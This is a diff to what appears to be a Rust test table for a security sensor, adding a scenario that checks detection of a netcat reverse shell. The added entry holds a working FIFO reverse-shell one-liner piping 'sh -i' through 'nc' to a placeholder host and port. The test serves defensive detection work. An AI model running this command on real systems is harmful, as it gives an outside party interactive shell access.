@@ -28,6 +28,23 @@ pub const SENSOR_ROWS: &[Scenario] = &[
         runs: EXEC,
     },
     Scenario {
+        // The same relay with netcat: named at the exec of sh or nc (whichever starts second) from the
+        // pipeline view, before any socket.
+        name: "reverse-shell-netcat-pipeline",
+        arrival: Arrival::Connect {
+            inject: "rm -f /tmp/.g; mkfifo /tmp/.g; cat /tmp/.g | sh -i 2>&1 | nc {gw} {lport} > /tmp/.g",
+            typed: "id",
+            port: 0,
+        },
+        category: "Reverse Shell",
+        severity: "CRITICAL",
+        rule: "reverse_shell_netcat_pipeline",
+        technique: "T1059.004",
+        fields: &[("/description", "nc {gw} {lport}")],
+        needs: Needs::Nothing,
+        runs: EXEC,
+    },
+    Scenario {
         // mkfifo: the shell's stdin is a pipe fed through a FIFO by a relay holding the socket.
         name: "reverse-shell-fifo",
         arrival: Arrival::Connect { inject: FIFO_SHELL, typed: "id; sleep 2.5", port: 0 },
